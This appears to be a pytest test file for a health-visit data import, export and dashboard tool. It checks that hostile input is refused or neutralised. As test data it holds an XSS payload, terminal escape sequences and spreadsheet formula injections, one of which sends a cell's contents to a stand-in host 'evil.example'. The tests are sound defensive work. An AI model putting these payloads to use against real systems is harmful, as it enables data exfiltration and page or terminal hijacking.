"""Hostile `kunjungan` input, on SQLite and PostgreSQL: counts too large for the column, place
names with invisible characters or spacing, the same place in two spellings in one file, and
markup in a place name on its way to the page. Each refused file is named `baris N, kolom C`
and stores nothing (test_import_bad_input.assert_rejected); what was fine is pinned cheaply."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import select, update

import callbacks.kunjungan as cb
from data_access import schema
from ingest import import_file
from tests import sample_kunjungan
from tests.components import text_of
from tests.test_import_bad_input import assert_rejected, counts
from tests.test_import_kunjungan import GOOD, HEADER, KEY, _row, write_csv

INT_MAX = 2_147_483_647  # an Integer column on both databases (PostgreSQL's int4)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def wilayah(request, tmp_path_factory):
    """tests/sample.py's province, shared by the tests whose file is refused (nothing changes)."""
    from tests.conftest import empty_database
    from tests.sample import load

    eng = empty_database(request, tmp_path_factory.mktemp("kunjungan-hostile"))
    load(eng)
    return eng


@pytest.fixture
def fresh(loaded):
    return loaded


# --- counts -------------------------------------------------------------------------------------

@pytest.mark.parametrize("jumlah", ["3000000000", "99999999999999999999", "1e300"])
def test_a_count_too_large_for_the_column_is_a_cell_problem_not_a_crash(wilayah, tmp_path, jumlah):
    before = counts(wilayah)
    result = import_file(wilayah, "kunjungan", write_csv(tmp_path / "k.csv", [GOOD, _row(bulan=2, jumlah=jumlah)]))
    assert_rejected(wilayah, before, result,
                    f"baris 3, kolom jumlah: jumlah {jumlah} terlalu besar; paling banyak 2.147.483.647")


def test_a_huge_klaster_is_echoed_as_typed_not_as_a_300_digit_number(wilayah, tmp_path):
    before = counts(wilayah)
    result = import_file(wilayah, "kunjungan", write_csv(tmp_path / "k.csv", [GOOD, _row(bulan=2, klaster="1e300")]))
    assert_rejected(wilayah, before, result, "baris 3, kolom klaster: klaster '1e300' bukan 2, 3, 4, atau 5")


def test_the_largest_count_the_column_holds_is_stored(fresh, tmp_path):
    result = import_file(fresh, "kunjungan", write_csv(tmp_path / "k.csv", [_row(jumlah=INT_MAX)]))
    assert result.ok, result.message
    with fresh.connect() as conn:
        assert conn.execute(select(schema.kunjungan_bulanan.c.jumlah)).scalar() == INT_MAX


# --- place names ----------------------------------------------------------------------------------

@pytest.mark.parametrize("nama, shown", [
    ("Pustu\u202eA2", "U+202E"),  # right-to-left override: 'Pustu' then the rest drawn backwards
    ("Pustu\u200bA2", "U+200B"),  # zero-width space: looks like 'PustuA2', is another place
    ("Pustu\x07A2", "U+0007"),  # a control character
])
def test_an_invisible_character_in_a_place_name_is_refused(wilayah, tmp_path, nama, shown):
    before = counts(wilayah)
    result = import_file(wilayah, "kunjungan", write_csv(tmp_path / "k.csv", [GOOD, _row(
        bulan=2, tempat="pustu", nama_tempat=nama)]))
    assert_rejected(wilayah, before, result,
                    f"baris 3, kolom nama_tempat: berisi karakter tak terlihat ({shown}); hapus karakter itu")


def test_spaces_inside_a_place_name_are_one_space(fresh, tmp_path):
    """'Pustu  A2' looks like 'Pustu A2' on the page (HTML folds spaces): it is the same place."""
    rows = [_row(tempat="pustu", nama_tempat="Pustu A2"), _row(bulan=2, tempat="pustu", nama_tempat="Pustu \t A2")]
    result = import_file(fresh, "kunjungan", write_csv(tmp_path / "k.csv", rows))
    assert result.ok, result.message
    with fresh.connect() as conn:
        names = set(conn.execute(select(schema.kunjungan_bulanan.c.nama_tempat)).scalars())
    assert names == {"Pustu A2"}


def test_the_same_cell_with_the_place_in_two_spellings_names_both_rows(wilayah, tmp_path):
    rows = [_row(tempat="pustu", nama_tempat="Pustu A2"), _row(tempat="pustu", nama_tempat="PUSTU  a2", jumlah=3)]
    before = counts(wilayah)
    result = import_file(wilayah, "kunjungan", write_csv(tmp_path / "k.csv", rows))
    shown = assert_rejected(wilayah, before, result,
                            f"baris 3, kolom {KEY}: {KEY} (P01, 2025, 1, pustu, Pustu A2, 2, 1-4, L, T, ) sudah "
                            "dipakai di baris 2 dengan isi berbeda; satu kunci hanya boleh satu baris")
    assert len(shown) == 1


def test_the_same_cell_twice_in_two_spellings_with_the_same_count_is_not_called_identical(wilayah, tmp_path):
    rows = [_row(tempat="pustu", nama_tempat="Pustu A2"), _row(tempat="pustu", nama_tempat="pustu a2")]
    before = counts(wilayah)
    shown = assert_rejected(wilayah, before, import_file(wilayah, "kunjungan", write_csv(tmp_path / "k.csv", rows)))
    assert "sudah dipakai di baris 2 dengan isi berbeda" in shown[0], shown


def test_a_month_reimported_with_the_place_in_another_case_is_refused_not_counted_twice(fresh, tmp_path):
    """The same month's report again, the Pustu now typed 'PUSTU  a2': stored as a second
    place it would be summed with the first (100 visits shown as 200)."""
    first = [_row(tempat="pustu", nama_tempat="Pustu A2", jumlah=100)]
    assert import_file(fresh, "kunjungan", write_csv(tmp_path / "a.csv", first)).ok
    before = counts(fresh)
    again = [_row(tempat="pustu", nama_tempat="PUSTU  a2", jumlah=100), _row(tempat="pustu", nama_tempat="Pustu B")]
    result = import_file(fresh, "kunjungan", write_csv(tmp_path / "b.csv", again))
    assert_rejected(fresh, before, result,
                    "baris 2, kolom nama_tempat: 'PUSTU a2' sudah tersimpan sebagai 'Pustu A2' untuk P01 pustu "
                    "bulan 1/2025; tulis persis sama agar angkanya mengganti yang tersimpan, bukan menjadi tempat "
                    "kedua")


def test_one_place_in_two_cases_in_one_file_is_stored_in_its_first_spelling(fresh, tmp_path):
    rows = [_row(tempat="pustu", nama_tempat="Pustu A2"),
            _row(tempat="pustu", kelompok_umur="5-9", nama_tempat="PUSTU a2"),
            _row(tempat="pustu", bulan=2, nama_tempat="pustu A2")]
    result = import_file(fresh, "kunjungan", write_csv(tmp_path / "k.csv", rows))
    assert result.ok, result.message
    with fresh.connect() as conn:
        names = set(conn.execute(select(schema.kunjungan_bulanan.c.nama_tempat)).scalars())
    assert names == {"Pustu A2"}


# --- markup and formulas: stored as typed, shown as text ----------------------------------------

def write_quoted(path, rows):
    """A CSV as a spreadsheet writes it: a cell with a comma or a quote is quoted."""
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([HEADER, *rows])
    return path


MARKUP = ["<img src=x onerror=alert(1)>", '=HYPERLINK("http://x","klik")', "@SUM(1+1)"]


def test_markup_and_formulas_in_a_place_name_are_stored_as_typed_and_shown_as_text(fresh, use_db, tmp_path):
    """The name reaches the page only in the "belum melapor" list, as a Dash string child
    (escaped by React): never inside a figure, never as markup."""
    sample_kunjungan.load(fresh)
    rows = [_row(tempat="pustu", klaster=2, kelompok_umur=u, nama_tempat=n, kode_desa="", tahun=2024, bulan=12)
            for n, u in zip(MARKUP, ("1-4", "5-9", "10-14"))]
    assert import_file(fresh, "kunjungan", write_quoted(tmp_path / "k.csv", rows)).ok
    section = use_db(cb)
    out = section.show_kunjungan({"level": "puskesmas", "kode": "P01", "tahun": 2025, "bulan": 1})
    lines = [li.children for li in out["warnings"].children[1].children]
    for name in MARKUP:
        assert f"{name} belum melapor sejak Januari 2025." in lines
    assert all(isinstance(line, str) for line in lines)
    figures = str([out[k] for k in ("trend", "umur", "jenis_kelamin", "disabilitas")])
    assert not any(name in figures for name in MARKUP)
    assert "onerror" in text_of(out["warnings"])


# --- the export ----------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def run_cli(loaded, monkeypatch, capsys):
    """`python cli.py …` on the loaded database with the sample visits (as test_export_kunjungan)."""
    import cli
    from data_access.db import dispose_engines

    sample_kunjungan.load(loaded)
    monkeypatch.setenv("DATABASE_URL", loaded.url.render_as_string(hide_password=False))
    dispose_engines()

    def run(*argv):
        status = cli.main(list(argv))
        out = capsys.readouterr()
        return status, out.out, out.err

    yield run
    dispose_engines()


def test_an_area_named_like_a_formula_is_exported_as_text(run_cli, loaded, tmp_path):
    with loaded.begin() as conn:
        conn.execute(update(schema.puskesmas).where(schema.puskesmas.c.kode == "P01").values(nama=EVIL))
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"k.{suffix}"
        status, _, err = run_cli("export", "kunjungan", "--tahun", "2025", "--bulan", "1", "--tingkat", "puskesmas",
                                 "--out", str(out))
        assert status == 0, err
        if suffix == "csv":
            rows = {r["kode"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
            assert rows["P01"]["nama"] == "'" + EVIL and rows["P01"]["jumlah"] == "100"
        else:
            sheet = openpyxl.load_workbook(out)["KUNJUNGAN"]
            cell = next(r for r in sheet.iter_rows() if r[0].value == "P01")[1]
            assert cell.data_type == "s" and cell.value in (EVIL, "'" + EVIL)


@pytest.mark.parametrize("tingkat, wilayah", [("puskesmas", "P02"), ("puskesmas", "p02"), ("desa", "99.01"),
                                              ("desa", "99"), ("desa", "9901022001"), ("desa", "99.02")])
def test_a_puskesmas_user_exporting_another_area_is_refused_in_the_filters_words(run_cli, loaded, tmp_path,
                                                                                  tingkat, wilayah):
    from data_access.users import add_user
    from domain.access import Role
    from domain.codes import Level
    from domain.wilayah import Scope

    with loaded.begin() as conn:
        add_user(conn, "pkm-a", "kata-sandi-panjang", Role.PEMBACA, Scope(Level.PUSKESMAS, "P01"))
    out = tmp_path / "x.csv"
    status, _, err = run_cli("export", "kunjungan", "--tahun", "2025", "--tingkat", tingkat, "--wilayah", wilayah,
                             "--pengguna", "pkm-a", "--out", str(out))
    assert status == 1 and "tidak ditemukan di wilayah yang boleh Anda lihat" in err, err
    assert not any(n in err for n in ("Pkm B", "Desa B1", "Kab Satu", "Kab Dua", "Prov Uji"))
    assert not out.exists()


# --- the section's callback, as a Puskesmas user ------------------------------------------------

OTHERS = ("Pkm B", "Desa B1", "Kab Satu", "Kab Dua", "Prov Uji", "Posyandu B1", "Pkm C")


@pytest.mark.parametrize("state", [
    {"level": "puskesmas", "kode": "P01", "tahun": 2025, "bulan": 99},
    {"level": "puskesmas", "kode": "P01", "tahun": -2025, "bulan": -1},
    {"level": "puskesmas", "kode": "P01", "tahun": 2**70, "bulan": 2**70},
    {"level": "puskesmas", "kode": "P01", "tahun": "2025", "bulan": 1.5},
    {"level": ["puskesmas"], "kode": {"a": {"b": ["P02"]}}, "tahun": [2025], "bulan": {"x": 1}},
    {"level": "puskesmas", "kode": "p02", "tahun": 2025, "bulan": 1},
    {"level": "puskesmas", "kode": " P02 ", "tahun": 2025, "bulan": 1},
    {"level": "desa", "kode": "9901022001", "tahun": 2025, "bulan": 1},
    {"level": "kabupaten", "kode": "99.02", "tahun": 2025, "bulan": 1},
])
def test_a_puskesmas_user_gets_their_own_view_or_the_filters_refusal(use_db, loaded, state):
    from callbacks.common import acting_as
    from domain.access import Role, Viewer
    from domain.codes import Level
    from domain.wilayah import Scope

    sample_kunjungan.load(loaded)
    section = use_db(cb)
    with acting_as(Viewer("pkm-a", Role.PEMBACA, Scope(Level.PUSKESMAS, "P01"))):
        out = section.show_kunjungan(state)
    shown = str(out)
    assert not any(name in shown for name in OTHERS), shown
    if out["content"] is None:  # a view: their own Puskesmas, the latest month when the month is nonsense
        assert out["period"].startswith("Pkm A · Februari 2025")
    else:
        assert "tidak ditemukan di wilayah yang boleh Anda lihat" in text_of(out["empty"])


# --- bounded: a Puskesmas whose file named thousands of places ------------------------------------

def test_the_silent_places_list_is_bounded_and_says_how_many_more():
    from indicators.kunjungan import Absent
    from layouts.kunjungan_parts import MAX_ABSENT_SHOWN, warnings

    absent = tuple(Absent("posyandu", f"Posyandu {i}", (2024, 12)) for i in range(5_000))
    alert = warnings(absent)
    lines = [li.children for li in alert.children[1].children]
    assert len(lines) == MAX_ABSENT_SHOWN + 1
    assert lines[0] == "Posyandu 0 belum melapor sejak Januari 2025."
    assert lines[-1] == f"… dan {5_000 - MAX_ABSENT_SHOWN:,} tempat lain.".replace(",", ".")


# --- the command line: a cell echoed in a message does not drive the terminal ---------------------

def test_cli_import_prints_control_characters_of_a_cell_escaped(loaded, monkeypatch, capsys, tmp_path):
    import cli
    from data_access.db import dispose_engines

    monkeypatch.setenv("DATABASE_URL", loaded.url.render_as_string(hide_password=False))
    dispose_engines()
    hostile = "\x1b[2J\x1b]0;judul\x07klinik\u202e"  # clear the screen, set the window title, reverse
    path = write_quoted(tmp_path / "k.csv", [_row(tempat=hostile)])
    try:
        assert cli.main(["import", "kunjungan", str(path)]) == 1
    finally:
        dispose_engines()
    err = capsys.readouterr().err
    assert "baris 2, kolom tempat: tempat '\\x1b[2J\\x1b]0;judul\\x07klinik\\u202e' tidak dikenal" in err
    assert not any(c in err for c in "\x1b\x07\u202e")
